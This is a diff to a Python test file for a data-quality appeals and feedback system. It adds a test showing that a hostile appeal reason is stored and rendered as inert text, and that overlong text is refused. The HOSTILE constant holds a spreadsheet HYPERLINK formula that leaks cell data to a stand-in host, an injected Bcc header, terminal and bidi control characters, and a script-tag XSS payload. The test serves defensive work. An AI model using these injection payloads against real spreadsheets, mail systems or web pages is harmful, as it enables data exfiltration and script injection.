@@ -428,12 +428,8 @@ def test_free_text_is_stored_with_identifiers_masked(rt):
     assert list_appeals(ch)[0]["reason"] == appeal["text"]
 
 
-def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
-    from expectations.publish.feedback import collect
-    from expectations.publish.report import write_reports
-
-    ch = rt.ch
-    _city(ch, dates=(D,))
+def _uploaded(ch):
+    """A's file of D as ingestion records it (the e-mail is then feedback, not a reminder)."""
     ch.insert(
         "dq.ingest_file",
         [[A, OV, D, "v.csv", "x", 1, at(D, 1), "csv", "utf-8", "loaded", "", 1, 1, 0, 1]],
@@ -455,6 +451,15 @@ def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
             "batch_version",
         ],
     )
+
+
+def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
+    from expectations.publish.feedback import collect
+    from expectations.publish.report import write_reports
+
+    ch = rt.ch
+    _city(ch, dates=(D,))
+    _uploaded(ch)
     approved = appeal_a(ch, reason="walk-ins <b>no id</b>")
     decide(
         ch,
@@ -482,3 +487,58 @@ def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
     card = page[page.index("申诉与豁免") :]
     assert approved["appeal_id"] in card and "walk-ins &lt;b&gt;no id&lt;/b&gt;" in card
     assert "本日所有规则均已通过" in page
+
+
+NOW3 = at(D + dt.timedelta(days=3))
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/"&A1)\r\nBcc: all@wjw.example.cn\n\x1b[2J'
+    "\u202e<script>alert(1)</script>\u2028—申诉"
+)
+
+
+def test_hostile_free_text_stays_text_everywhere_and_huge_text_is_refused(rt, tmp_path):
+    """A reason with a formula, a header, terminal and bidi controls, HTML and line breaks is
+    stored as given (masked) and shown as text: one line in the plain-text e-mail, escaped in
+    HTML; a reason or comment longer than contracts/appeals.yaml allows is refused."""
+    from email import message_from_bytes, policy
+
+    from expectations.publish.feedback import collect, compose
+    from expectations.publish.report import write_reports
+
+    ch = rt.ch
+    _city(ch, dates=(D,))
+    _uploaded(ch)
+    limit = CONFIG.text.max_chars
+    with pytest.raises(AppealRefused, match=f"the reason is longer than {limit} characters"):
+        appeal_a(ch, reason="长" * (limit + 1))
+    appeal = appeal_a(ch, reason=HOSTILE)
+    with pytest.raises(AppealRefused, match=f"the comment is longer than {limit} characters"):
+        decide(ch, CONFIG, appeal["appeal_id"], "approved", "x" * (limit + 1), OFFICER, NOW3)
+    with pytest.raises(AppealRefused, match=f"the reason is longer than {limit} characters"):
+        add_waiver(
+            ch,
+            REGISTRY,
+            CONFIG,
+            RULES,
+            "required",
+            D,
+            D,
+            "x" * (limit + 1),
+            OFFICER,
+            NOW3,
+            org_code=A,
+        )
+    assert events(ch)[1] == []
+    decide(ch, CONFIG, appeal["appeal_id"], "approved", HOSTILE, OFFICER, NOW3)
+    rescore(ch, REGISTRY, D, D)
+    [fb] = collect(ch, REGISTRY, D, [A], reports_dir=tmp_path)
+    msg = message_from_bytes(compose(fb, "qc@wjw.example.cn").as_bytes(), policy=policy.default)
+    assert msg["Bcc"] is None and "Bcc" not in msg.keys()
+    text = msg.get_body(("plain",)).get_content()
+    html = msg.get_body(("html",)).get_content()
+    assert "<script>" not in html and "&lt;script&gt;" in html
+    lines = [line for line in text.splitlines() if "HYPERLINK" in line]
+    assert lines and all("\x1b" not in x and "\u202e" not in x for x in lines)
+    assert not any(line.startswith("Bcc:") for line in text.splitlines())
+    page = write_reports(ch, REGISTRY, D, tmp_path)["orgs"][A].read_text(encoding="utf-8")
+    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
